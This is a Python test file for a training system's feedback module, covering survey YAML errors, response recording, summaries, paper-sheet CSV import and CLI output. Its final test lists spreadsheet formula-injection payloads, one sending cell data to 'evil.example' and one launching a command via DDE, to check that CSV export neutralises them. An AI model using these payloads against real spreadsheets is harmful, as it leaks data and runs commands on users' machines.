"""Trainee feedback: the survey YAML and its one-line errors, recording (ranges, unknown items, one response per
trainee that a second replaces, anonymous sheets), summaries per session, course and trainer (means, distributions,
response rate against trainees present), paper sheets typed into CSV, the ``lms feedback`` commands and the demo."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import Session, col, func, select

from lms.access.roles import PermissionDenied, Role, acting_as
from lms.demo.feedback import add_demo_feedback
from lms.errors import LmsError, NotFoundError
from lms.feedback.display import distribution_spark, rating_bar
from lms.feedback.paper_sheets import import_feedback
from lms.feedback.responses import record_response
from lms.feedback.summaries import (
    FeedbackSummary,
    feedback_overview,
    feedback_summary,
    summary_by_course,
    summary_by_trainer,
)
from lms.feedback.survey import default_survey, load_survey
from lms.models import FeedbackResponse, Organisation, Person, SessionStatus, TrainingSession
from lms.scheduling.sessions import add_to_roster, create_session, mark_attendance, session_days
from tests.lms.quiz_fixtures import quiz_world

GOOD_SURVEY = """\
code: short
title: {zh: 简短反馈, en: Short feedback}
items:
  - id: content
    kind: rating
    text: {zh: 内容, en: Content}
  - id: notes
    kind: comment
    text: {zh: 意见, en: Notes}
"""


def write(tmp_path: Path, text: str, name: str = "survey.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def feedback_world(session: Session, pm: Any, tmp_path: Path) -> dict[str, Any]:
    """Two held sessions of one course: S-QUIZ1 (trainer TR1; T001, T002 present, T003 absent) and S-QUIZ2 (trainer
    TR2; T001 present, T002 absent)."""
    world = quiz_world(session, pm, tmp_path)
    vendor = Organisation(code="VENDOR", kind="vendor", name_zh="厂商", name_en="Vendor")
    session.add(vendor)
    session.flush()
    trainers = [
        Person(code=code, kind="trainer", name=name, name_en=english, organisation_id=vendor.id or 0)
        for code, name, english in (("TR1", "陈老师", "Chen"), ("TR2", "王老师", "Wang"))
    ]
    session.add_all(trainers)
    session.flush()
    first: TrainingSession = world["session"]
    from lms.scheduling.sessions import set_trainers

    set_trainers(session, first, [(trainers[0], "lead")])
    second = create_session(
        session,
        course_version=world["version"],
        days=[dt.date(2026, 11, 25)],
        mode="on_site",
        place="Site",
        city="杭州",
        status="held",
        code="S-QUIZ2",
        trainers=[(trainers[1], "lead")],
    )
    people = world["people"]
    add_to_roster(session, second, people[:2])
    for training, present in ((first, [True, True, False]), (second, [True, False])):
        for day in session_days(session, training):
            for person, here in zip(people, present, strict=False):
                mark_attendance(session, day, person, here)
    session.commit()
    return world | {"second": second, "trainers": trainers}


def ids(world: dict[str, Any]) -> tuple[int, int, list[int]]:
    return world["session"].id, world["second"].id, [person.id for person in world["people"]]


# --- the survey -------------------------------------------------------------------------------------------------


def test_the_default_survey_covers_content_trainer_hands_on_materials_overall_and_comments() -> None:
    survey = default_survey()
    assert [item.id for item in survey.ratings] == ["content", "trainer", "hands_on", "materials", "overall"]
    assert [item.id for item in survey.comments] == ["comments"]
    assert survey.scale.low.zh == "很不满意" and survey.scale.high.zh == "很满意"
    hands_on = survey.item("hands_on")
    assert hands_on is not None and survey.scale_of(hands_on).low.en == "Far too little"


@pytest.mark.parametrize(
    ("text", "where"),
    [
        (GOOD_SURVEY.replace("    kind: rating\n", "    kind: stars\n"), ":5:5: items[0].kind: "),
        (GOOD_SURVEY.replace("id: notes", "id: content"), ":7:5: items[1].id: item id 'content' is used twice"),
        (GOOD_SURVEY + "    colour: red\n", ":10:5: items[1].colour: unknown field"),
        (
            GOOD_SURVEY.replace("{zh: 内容, en: Content}", "{zh: 内容}"),
            ":6:5: items[0].text.en: required field is missing",
        ),
        (
            GOOD_SURVEY + "    scale: {low: {zh: 差, en: Bad}, high: {zh: 好, en: Good}}\n",
            ":10:5: items[1].scale: only",
        ),
        ("code: x\ntitle: {zh: 甲, en: A}\nitems: []\n", ":3:1: items: needs at least 1 item(s)"),
        ("code: x\ntitle: {zh: 甲, en: A\n", ":3:1: YAML syntax error"),
    ],
)
def test_survey_errors_name_file_line_column_and_field(tmp_path: Path, text: str, where: str) -> None:
    path = write(tmp_path, text)
    with pytest.raises(LmsError) as caught:
        load_survey(path)
    message = str(caught.value)
    assert message.startswith(str(path)) and where in message
    assert "\n" not in message


def test_a_good_survey_file_loads(tmp_path: Path) -> None:
    survey = load_survey(write(tmp_path, GOOD_SURVEY))
    assert survey.code == "short" and survey.scale.low.en == "Very dissatisfied"  # the default end labels


# --- recording --------------------------------------------------------------------------------------------------


def test_a_response_is_stored_and_a_second_one_from_the_same_trainee_replaces_it(
    session: Session, pm: Any, tmp_path: Path
) -> None:
    world = feedback_world(session, pm, tmp_path)
    first, _second, people = ids(world)
    survey = default_survey()
    one = record_response(session, first, people[0], survey, {"content": 3}, {"comments": " 太快了 "}, "terminal")
    two = record_response(session, first, people[0], survey, {"content": 5, "overall": 4}, {}, "browser")
    anonymous = [record_response(session, first, None, survey, {"content": 2}, {}, "paper") for _n in range(2)]
    session.commit()
    assert not one.replaced and two.replaced and two.id == one.id
    assert not any(recorded.replaced for recorded in anonymous)
    rows = session.exec(select(FeedbackResponse).order_by(col(FeedbackResponse.id))).all()
    assert [(r.person_id, r.ratings, r.comments, r.source) for r in rows] == [
        (people[0], {"content": 5, "overall": 4}, {}, "browser"),
        (None, {"content": 2}, {}, "paper"),
        (None, {"content": 2}, {}, "paper"),
    ]
    assert rows[0].survey == "training-feedback"


@pytest.mark.parametrize(
    ("ratings", "comments", "message"),
    [
        ({"content": 6}, {}, "content: a rating is a whole number from 1 to 5, not 6"),
        ({"content": 0}, {}, "a rating is a whole number from 1 to 5, not 0"),
        ({"content": "4"}, {}, "not '4'"),
        ({"content": True}, {}, "not True"),
        ({"content": 3.5}, {}, "not 3.5"),
        ({"speed": 3}, {}, "speed: the survey has no item 'speed'"),
        ({"comments": 3}, {}, "comments takes a comment, not a rating"),
        ({}, {"overall": "good"}, "overall takes a rating, not a comment"),
        ({}, {"comments": "   "}, "the response is empty"),
        ({"content": None}, {}, "the response is empty"),
        ({}, {"comments": "x" * 2001}, "a comment is at most 2000 characters"),
    ],
)
def test_bad_answers_are_refused_and_nothing_is_stored(
    session: Session, pm: Any, tmp_path: Path, ratings: dict[str, Any], comments: dict[str, Any], message: str
) -> None:
    world = feedback_world(session, pm, tmp_path)
    first, _second, people = ids(world)
    with pytest.raises(LmsError) as caught:
        record_response(session, first, people[0], default_survey(), ratings, comments, "terminal")
    assert message in str(caught.value)
    assert session.exec(select(func.count()).select_from(FeedbackResponse)).one() == 0


def test_only_rostered_trainees_of_a_session_that_took_place_answer(session: Session, pm: Any, tmp_path: Path) -> None:
    world = feedback_world(session, pm, tmp_path)
    first, second, people = ids(world)
    survey = default_survey()
    with pytest.raises(LmsError, match="not on the roster of session S-QUIZ2"):
        record_response(session, second, people[2], survey, {"content": 4}, {}, "terminal")
    with pytest.raises(NotFoundError):
        record_response(session, 9999, None, survey, {"content": 4}, {}, "terminal")
    with pytest.raises(LmsError, match="unknown source"):
        record_response(session, first, None, survey, {"content": 4}, {}, "fax")
    world["second"].status = SessionStatus.cancelled
    session.add(world["second"])
    with pytest.raises(LmsError, match="cancelled"):
        record_response(session, second, people[0], survey, {"content": 4}, {}, "terminal")


# --- summaries --------------------------------------------------------------------------------------------------


def answered(session: Session, world: dict[str, Any]) -> None:
    """S-QUIZ1: T001 4/5 and a comment, T002 2, an anonymous sheet 5; S-QUIZ2: T001 3."""
    first, second, people = ids(world)
    survey = default_survey()
    record_response(session, first, people[0], survey, {"content": 4, "overall": 5}, {"comments": "好"}, "terminal")
    record_response(session, first, people[1], survey, {"content": 2}, {}, "terminal")
    record_response(session, first, None, survey, {"content": 5, "overall": 4}, {}, "paper")
    record_response(session, second, people[0], survey, {"content": 3}, {"comments": "再来"}, "browser")
    session.commit()


def item(summary: FeedbackSummary, item_id: str) -> tuple[int, float | None, tuple[int, ...]]:
    found = next(entry for entry in summary.items if entry.item == item_id)
    return found.count, found.mean, found.distribution


def test_a_session_summary_has_counts_means_distributions_comments_and_the_response_rate(
    session: Session, pm: Any, tmp_path: Path
) -> None:
    world = feedback_world(session, pm, tmp_path)
    answered(session, world)
    summary = feedback_summary(session, world["session"].id)
    assert (summary.scope, summary.code, summary.sessions) == ("session", "S-QUIZ1", 1)
    assert (summary.responses, summary.anonymous, summary.present) == (3, 1, 2)
    assert summary.response_rate == 1.5  # an anonymous sheet on top of both present trainees: typed in twice?
    assert item(summary, "content") == (3, 3.67, (0, 1, 0, 1, 1))
    assert item(summary, "overall") == (2, 4.5, (0, 0, 0, 1, 1))
    assert item(summary, "trainer") == (0, None, (0, 0, 0, 0, 0))
    assert [item.item for item in summary.items] == ["content", "trainer", "hands_on", "materials", "overall"]
    assert [(c.item, c.session, c.text) for c in summary.comments] == [("comments", "S-QUIZ1", "好")]
    assert summary.title == {"zh": "测验课程", "en": "Quiz course"}
    as_json = json.loads(json.dumps(summary.as_dict()))
    assert as_json["response_rate"] == 1.5 and as_json["items"][0]["distribution"] == [0, 1, 0, 1, 1]


def test_a_session_without_feedback_has_a_zero_response_rate(session: Session, pm: Any, tmp_path: Path) -> None:
    world = feedback_world(session, pm, tmp_path)
    summary = feedback_summary(session, world["second"].id)
    assert (summary.responses, summary.present, summary.response_rate) == (0, 1, 0.0)
    assert all(entry.count == 0 and entry.mean is None for entry in summary.items)


def test_course_and_trainer_summaries_cover_their_sessions_with_feedback(
    session: Session, pm: Any, tmp_path: Path
) -> None:
    world = feedback_world(session, pm, tmp_path)
    answered(session, world)
    course = summary_by_course(session, "qz-1")
    assert (course.code, course.sessions, course.responses, course.present) == ("QZ-1", 2, 4, 3)
    assert item(course, "content") == (4, 3.5, (0, 1, 1, 1, 1))
    assert [c.session for c in course.comments] == ["S-QUIZ1", "S-QUIZ2"]
    chen = summary_by_trainer(session, "TR1")
    wang = summary_by_trainer(session, "TR2")
    assert (chen.sessions, chen.responses, chen.present, item(chen, "content")[0]) == (1, 3, 2, 3)
    assert (wang.sessions, wang.responses, wang.present, item(wang, "content")) == (1, 1, 1, (1, 3.0, (0, 0, 1, 0, 0)))
    assert chen.title == {"zh": "陈老师", "en": "Chen"}
    with pytest.raises(NotFoundError):
        summary_by_course(session, "NOPE")
    with pytest.raises(NotFoundError):
        summary_by_trainer(session, "NOPE")


def test_the_overview_lists_sessions_courses_and_trainers_latest_first(
    session: Session, pm: Any, tmp_path: Path
) -> None:
    world = feedback_world(session, pm, tmp_path)
    answered(session, world)
    sessions = feedback_overview(session, "session")
    assert [(r.code, r.responses, r.present, r.response_rate, r.mean) for r in sessions] == [
        ("S-QUIZ2", 1, 1, 1.0, 3.0),
        ("S-QUIZ1", 3, 2, 1.5, 4.0),  # 4, 5, 2, 5, 4
    ]
    [course] = feedback_overview(session, "course")
    assert (course.code, course.sessions, course.responses, course.present) == ("QZ-1", 2, 4, 3)
    trainers = feedback_overview(session, "trainer")
    assert [(r.code, r.sessions, r.responses) for r in trainers] == [("TR2", 1, 1), ("TR1", 1, 3)]


def test_trainees_record_feedback_but_only_those_who_see_results_read_it(
    session: Session, pm: Any, tmp_path: Path
) -> None:
    world = feedback_world(session, pm, tmp_path)
    first, _second, people = ids(world)
    with acting_as(Role.trainee):
        record_response(session, first, people[0], default_survey(), {"content": 4}, {}, "terminal")
        with pytest.raises(PermissionDenied):
            feedback_summary(session, first)
        with pytest.raises(PermissionDenied):
            feedback_overview(session, "course")


def test_bars_and_spreads_are_drawn_with_block_characters() -> None:
    assert rating_bar(5, 20) == "█" * 20
    assert rating_bar(2.5, 20) == "█" * 10
    assert rating_bar(3.7, 20) == "██████████████▊"  # 14.8 cells
    assert rating_bar(None) == ""
    assert distribution_spark((0, 1, 0, 2, 4)) == "·▃·▅█"
    assert distribution_spark((0, 0, 0, 0, 0)) == "·····"


# --- paper sheets -----------------------------------------------------------------------------------------------


def paper(tmp_path: Path, rows: list[str], header: str = "trainee,sheet,item,value", encoding: str = "utf-8") -> Path:
    path = tmp_path / "sheets.csv"
    path.write_bytes(("\n".join([header, *rows]) + "\n").encode(encoding))
    return path


GOOD_ROWS = [
    "T001,,content,4",
    "330106199001010001,,overall,５",  # the same trainee by ID number, a full-width digit
    "T001,,comments,希望多些实操",
    "李四,,content,2",
    "李四,,trainer,",  # left blank on the sheet
    ",7,content,5",
    ',7,comments,"good, thanks"',
    ",8,overall,3",
]


def count(session: Session) -> int:
    return int(session.exec(select(func.count()).select_from(FeedbackResponse)).one())


def test_paper_sheets_are_recorded_named_and_anonymous(session: Session, pm: Any, tmp_path: Path) -> None:
    world = feedback_world(session, pm, tmp_path)
    _first, _second, people = ids(world)
    record_response(session, world["session"].id, people[1], default_survey(), {"content": 5}, {}, "terminal")
    result = import_feedback(session, path=paper(tmp_path, GOOD_ROWS, encoding="gbk"), session_code="s-quiz1")
    session.commit()
    assert (result.session, result.recorded, result.replaced, result.anonymous) == ("S-QUIZ1", 4, 1, 2)
    rows = session.exec(select(FeedbackResponse).order_by(col(FeedbackResponse.id))).all()
    assert [(r.person_id, r.ratings, r.comments, r.source) for r in rows] == [
        (people[1], {"content": 2}, {}, "paper"),  # replaced what the trainee gave on screen
        (people[0], {"content": 4, "overall": 5}, {"comments": "希望多些实操"}, "paper"),
        (None, {"content": 5}, {"comments": "good, thanks"}, "paper"),
        (None, {"overall": 3}, {}, "paper"),
    ]
    with pytest.raises(LmsError, match="already imported for session S-QUIZ1"):
        import_feedback(session, path=paper(tmp_path, GOOD_ROWS, encoding="gbk"), session_code="S-QUIZ1")
    assert count(session) == 4


@pytest.mark.parametrize(
    ("rows", "where"),
    [
        (["T001,,content,4", "T001,,speed,4"], ":3: item: the survey has no item 'speed'"),
        (["T001,,content,6"], ":2: value: a rating is a whole number from 1 to 5, not '6'"),
        (["T001,,content,good"], ":2: value: a rating is a whole number"),
        (["T001,,content,4", "T003,,content,4", "T009,,content,4"], ":4: trainee: T009 is not on the roster"),
        (["T001,,content,4", ",,content,4"], ":3: trainee: an anonymous row needs a sheet number"),
        (["T001,,content,4", "T001,,content,5"], ":3: item: content is answered twice on this sheet"),
        (["T001,1,content,4", "T002,1,overall,4"], ":3: trainee: sheet 1 belongs to another trainee (line 2)"),
        (["T001,1,content,4", "T001,2,overall,4"], ":3: trainee: 张三 has answers on two sheets"),
    ],
)
def test_a_bad_line_names_file_line_and_field_and_nothing_is_recorded(
    session: Session, pm: Any, tmp_path: Path, rows: list[str], where: str
) -> None:
    feedback_world(session, pm, tmp_path)
    path = paper(tmp_path, rows)
    with pytest.raises(LmsError) as caught:
        import_feedback(session, path=path, session_code="S-QUIZ1")
    session.rollback()
    assert str(caught.value).startswith(str(path)) and where in str(caught.value)
    assert count(session) == 0


def test_a_sheet_without_the_item_and_value_columns_is_refused(session: Session, pm: Any, tmp_path: Path) -> None:
    feedback_world(session, pm, tmp_path)
    with pytest.raises(LmsError, match=":1: the first row must name the columns trainee, item, value"):
        import_feedback(session, path=paper(tmp_path, ["T001,4"], header="trainee,rating"), session_code="S-QUIZ1")


def test_chinese_column_names_and_no_trainee_column(session: Session, pm: Any, tmp_path: Path) -> None:
    feedback_world(session, pm, tmp_path)
    path = paper(tmp_path, ["1,content,4", "1,overall,5", "2,content,3"], header="表号,题目,评分")
    result = import_feedback(session, path=path, session_code="S-QUIZ1")
    assert (result.recorded, result.anonymous) == (2, 2)


# --- command line -----------------------------------------------------------------------------------------------


def test_results_as_json_csv_and_text(cli: Any, engine: Any, pm: Any, tmp_path: Path) -> None:
    with Session(engine, expire_on_commit=False) as session:
        answered(session, feedback_world(session, pm, tmp_path))
    result = cli("feedback", "results", "--session", "S-QUIZ1", "--format", "json")
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert (data["responses"], data["present"], data["response_rate"]) == (3, 2, 1.5)
    assert data["items"][0] == {
        "item": "content",
        "label": {"zh": "培训内容", "en": "Content"},
        "count": 3,
        "mean": 3.67,
        "distribution": [0, 1, 0, 1, 1],
    }
    result = cli("feedback", "results", "--trainer", "TR1", "--format", "csv")
    assert result.out.startswith("\ufeff")  # Excel on Chinese Windows reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff"))))
    assert [(r["item"], r["kind"], r["count"], r["n5"]) for r in rows[:2]] == [
        ("content", "rating", "3", "1"),
        ("trainer", "rating", "0", "0"),
    ]
    assert [(r["kind"], r["session"], r["comment"]) for r in rows if r["kind"] == "comment"] == [
        ("comment", "S-QUIZ1", "好")
    ]
    text = cli("feedback", "results", "--course", "QZ-1").out
    assert "Course QZ-1 — Quiz course · 2 sessions with feedback" in text
    assert "4 responses from 3 trainees present (133%), 1 anonymous" in text
    assert "- [S-QUIZ2] 再来" in text
    listing = json.loads(cli("feedback", "list", "--by", "trainer", "--format", "json").out)
    assert [row["code"] for row in listing] == ["TR2", "TR1"]


def test_command_line_errors_are_one_line(cli: Any, engine: Any, pm: Any, tmp_path: Path) -> None:
    with Session(engine, expire_on_commit=False) as session:
        feedback_world(session, pm, tmp_path)
    both = cli("feedback", "results", "--session", "S-QUIZ1", "--course", "QZ-1")
    assert both.code == 1 and both.err.strip() == "lms: give exactly one of --session, --course or --trainer"
    unknown = cli("feedback", "results", "--session", "S-NONE")
    assert unknown.code == 1 and unknown.err.strip() == "lms: no training session has the code S-NONE"
    bad = paper(tmp_path, ["T001,,content,9"])
    refused = cli("feedback", "import", str(bad), "--session", "S-QUIZ1")
    assert refused.code == 1 and refused.err.strip().endswith(
        ":2: value: a rating is a whole number from 1 to 5, not '9'"
    )
    survey = write(tmp_path, GOOD_SURVEY.replace("kind: comment", "kind: essay"))
    checked = cli("feedback", "survey", str(survey))
    assert (
        checked.code == 1
        and f"{survey}:8:5: items[1].kind: must be one of 'rating' or 'comment'" in checked.err
        and checked.err.count("\n") == 1
    )


def test_import_from_the_command_line(cli: Any, engine: Any, pm: Any, tmp_path: Path) -> None:
    with Session(engine, expire_on_commit=False) as session:
        feedback_world(session, pm, tmp_path)
    result = cli("feedback", "import", str(paper(tmp_path, GOOD_ROWS)), "--session", "S-QUIZ1", "--format", "json")
    assert result.code == 0, result.err
    assert json.loads(result.out) == {"session": "S-QUIZ1", "recorded": 4, "replaced": 0, "anonymous": 2}
    shown = cli("feedback", "survey")
    assert "training-feedback" in shown.out and "hands_on" in shown.out and "1 Far too little … 5 Plenty" in shown.out


# --- demo -------------------------------------------------------------------------------------------------------


def test_demo_feedback_is_the_same_for_the_same_seed(session: Session, pm: Any, tmp_path: Path) -> None:
    feedback_world(session, pm, tmp_path)

    def made(seed: int) -> list[tuple[Any, ...]]:
        add_demo_feedback(session, seed=seed)
        rows = session.exec(select(FeedbackResponse).order_by(col(FeedbackResponse.id))).all()
        found = [(r.session_id, r.person_id, r.ratings, r.comments, r.source) for r in rows]
        session.rollback()
        return found

    first = made(7)
    assert first and first == made(7) and first != made(8)
    rated = {"content", "trainer", "hands_on", "materials", "overall"}
    assert all(set(ratings) == rated for _session, _person, ratings, _comments, _source in first)


def test_the_demo_has_feedback_on_held_sessions_only(demo_database: str) -> None:
    from lms.db import make_engine

    engine = make_engine(demo_database)
    with Session(engine) as session:
        statuses = session.exec(
            select(TrainingSession.status, func.count())
            .join(FeedbackResponse, col(FeedbackResponse.session_id) == TrainingSession.id)
            .group_by(col(TrainingSession.status))
        ).all()
        anonymous = session.exec(
            select(func.count()).select_from(FeedbackResponse).where(col(FeedbackResponse.person_id).is_(None))
        ).one()
    engine.dispose()
    assert [status for status, _n in statuses] == ["held"] and statuses[0][1] >= 10
    assert anonymous == 1


def test_comments_that_look_like_formulas_are_exported_as_text(cli: Any, engine: Any, pm: Any, tmp_path: Path) -> None:
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    with Session(engine, expire_on_commit=False) as session:
        first, _second, people = ids(feedback_world(session, pm, tmp_path))
        survey = default_survey()
        record_response(session, first, people[0], survey, {"content": 4}, {"comments": attacks[0]}, "browser")
        record_response(session, first, people[1], survey, {"content": 4}, {"comments": attacks[1]}, "browser")
        record_response(session, first, None, survey, {"content": 4}, {"comments": attacks[2]}, "paper")
        session.commit()
    result = cli("feedback", "results", "--session", "S-QUIZ1", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff"))))
    comments = sorted(row["comment"] for row in rows if row["kind"] == "comment")
    assert comments == sorted("'" + text for text in attacks)
